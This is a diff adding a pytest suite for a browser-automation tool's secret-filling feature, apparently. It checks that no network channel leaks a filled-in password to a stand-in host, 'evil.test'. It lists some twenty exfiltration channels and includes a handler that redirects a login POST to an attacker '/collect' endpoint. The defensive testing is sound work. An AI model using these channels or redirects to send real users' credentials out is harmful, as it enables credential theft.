@@ -1,0 +1,173 @@
+"""While a secret is in a page nothing of the browser reaches another host, though the space's list has it; and what was
+sent off once is not sent again later."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+
+import anyio
+import pytest
+
+from mcp_spaces.browser.filling import reaches
+from mcp_spaces.errors import RuntimeUnavailable, SpacesError, WrongState
+from mcp_spaces.network.model import Target
+from mcp_spaces.vault.model import Bindings
+from tests.browser.signing import APP, EVIL, Rig, open_rig
+from tests.browser.site.server import HANDLERS
+from tests.browser.site.wire import Answer, Request
+
+pytestmark = pytest.mark.anyio
+
+CHANNELS = (
+    "fetch image beacon form redirect302 post307 websocket popup worker prefetch stun dns"
+    " navigate frame style xhr eventsource ping keepalive".split()
+)
+
+
+@pytest.fixture(scope="module")
+def anyio_backend() -> str:
+    return "asyncio"
+
+
+@pytest.fixture(scope="module")
+async def opened(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Rig]:
+    async with open_rig(tmp_path_factory.mktemp("exfiltration")) as rig:
+        yield rig
+
+
+@pytest.fixture
+async def rig(opened: Rig) -> Rig:
+    await opened.fresh()
+    return opened
+
+
+async def heard_nothing(rig: Rig) -> None:
+    """Not now, and not by what is still under way: whatever the browser asks for last would come after it."""
+    await rig.call("browser.navigate", url=f"{APP}/links100")
+    assert rig.leaks() == [] and rig.site.reached("evil.test") == []
+    assert rig.site.packets("stun") == [] and rig.site.packets("dns") == []
+
+
+async def test_evil_is_reached_when_no_secret_is_there(rig: Rig) -> None:
+    """Otherwise nothing of the rest would mean anything."""
+    shown = await rig.call("browser.navigate", url=f"{APP}/exfil?channel=fetch&when=input")
+    ref = "e" + next(line for line in shown.changes.splitlines() if '"Password"' in line).split(" e")[1].split()[0]
+    await rig.call("browser.fill", fields={ref: "typed-by-hand"})
+    with anyio.fail_after(10):
+        await rig.site.hit("evil.test", "/collect", holding="typed-by-hand")
+
+
+@pytest.mark.parametrize("when", ["input", "submit"])
+@pytest.mark.parametrize("channel", CHANNELS)
+async def test_b05_b06_b07_n22_no_channel_reaches_another_host_while_a_secret_is_filled_in(
+    rig: Rig, channel: str, when: str
+) -> None:
+    try:
+        await rig.login(f"/exfil?channel={channel}&when={when}")
+    except WrongState:
+        await rig.fresh()
+    await heard_nothing(rig)
+
+
+@pytest.mark.parametrize("page", ["/post307", "/post308", "/action-switch", "/moves-form"])
+async def test_b05_a_form_that_is_led_elsewhere_takes_nothing_there_not_even_later(rig: Rig, page: str) -> None:
+    try:
+        answer = await rig.login(page)
+    except WrongState:
+        assert await rig.state() == "failed" and rig.leaks() == []
+        return
+    assert not answer.signed_in and answer.refused == ("evil.test:443",)
+    for again in ("browser.reload", "browser.back", "browser.forward", "browser.reload"):
+        try:
+            await rig.call(again)
+        except SpacesError:
+            continue
+    await heard_nothing(rig)
+
+
+async def test_b05_a_page_that_was_posted_for_is_not_posted_for_again(rig: Rig) -> None:
+    password = "wrong-password-77"
+    assert not (await rig.login("/plain", secret=await rig.secret(password=password))).signed_in
+    sent = len(rig.site.holding(password))
+    await rig.call("browser.reload")
+    assert sent == 1 and len(rig.site.holding(password)) == 1
+    assert rig.site.hits("app.test")[-1].method == "GET"
+
+
+async def test_b05_an_answer_that_comes_too_late_leads_nowhere(rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A site that takes its time and then sends the form on, when nobody waits for it any more."""
+    monkeypatch.setattr("mcp_spaces.browser.filling.SUBMIT_S", 1.0)
+
+    def late(backend: object, request: Request) -> Answer:
+        return Answer(status=307, fields=[("Location", f"{EVIL}/collect")], delay_s=3)
+
+    monkeypatch.setitem(HANDLERS, ("POST", "/plain"), late)
+    answer = await rig.login("/plain")
+    assert not answer.signed_in
+    await anyio.sleep(3.5)
+    await heard_nothing(rig)
+
+
+@pytest.mark.parametrize("on", ["focus", "input", "click"])
+async def test_b11_a_window_that_opens_during_the_fill_is_closed_and_loads_nothing(rig: Rig, on: str) -> None:
+    answer = await rig.login(f"/opener?on={on}")
+    assert answer.signed_in and answer.opened is None
+    assert [one.page for one in (await rig.call("browser.pages")).pages] == ["p1"]
+    assert rig.leaks() == [] and rig.site.reached("evil.test") == []
+
+
+async def test_b20_a_page_leaves_no_service_worker_behind(rig: Rig) -> None:
+    await rig.call("browser.navigate", url=f"{APP}/serviceworker")
+    found = await rig.call(
+        "browser.evaluate",
+        script="navigator.serviceWorker ? navigator.serviceWorker.getRegistrations().then(all => all.length) : 0",
+    )
+    assert found.result == 0
+    assert (await rig.login("/plain")).signed_in
+
+
+async def test_b14_chromium_keeps_no_passwords_of_its_own(rig: Rig) -> None:
+    assert (await rig.login("/plain")).signed_in
+    await rig.call("browser.logout")
+    shown = await rig.call("browser.navigate", url=f"{APP}/plain")
+    assert '"Password" ' in shown.changes and "[filled]" not in shown.changes
+
+
+# ---------------------------------------------------------------------------------------- the gateway, narrowed
+
+
+async def test_b07_narrowing_closes_what_is_open_and_ends_with_its_window(rig: Rig) -> None:
+    await rig.call("browser.navigate", url=f"{EVIL}/plain")
+    runtime = rig.row.id
+    flows = rig.gateway._flows[runtime]
+    assert {flow.target.host for flow in flows if flow.target} == {"evil.test"}
+    async with rig.gateway.narrowed(runtime, lambda target: target.host == "app.test") as narrowed:
+        assert not any(flow.target for flow in rig.gateway._flows.get(runtime, ()))
+        rig.site.forget()
+        with pytest.raises(RuntimeUnavailable):
+            await rig.call("browser.navigate", url=f"{EVIL}/plain")
+        assert rig.site.connects() == [] and narrowed.refused == {"evil.test:443"}
+        await rig.call("browser.navigate", url=f"{APP}/plain", new_page=True)
+        with pytest.raises(WrongState):
+            async with rig.gateway.narrowed(runtime, lambda _: True):
+                pass
+    await rig.call("browser.navigate", url=f"{EVIL}/plain", new_page=True)
+
+
+async def test_b03_a_secret_of_an_https_origin_does_not_go_out_as_plain_text(rig: Rig) -> None:
+    bindings = Bindings(
+        origins=("https://app.test", "http://web.sandbox.internal:8080"), origin_patterns=("https://*.app.test",)
+    )
+    for target, expected in (
+        (Target("app.test", 443, tunnel=True), True),
+        (Target("login.app.test", 443, tunnel=True), True),
+        (Target("app.test", 443), False),
+        (Target("app.test", 80), False),
+        (Target("app.test", 80, tunnel=True), False),
+        (Target("app.test", 8443, tunnel=True), False),
+        (Target("web.sandbox.internal", 8080), True),
+        (Target("web.sandbox.internal", 80), False),
+        (Target("other.sandbox.internal", 8080), False),
+        (Target("evil.test", 443, tunnel=True), False),
+    ):
+        assert reaches(bindings, target) is expected, target
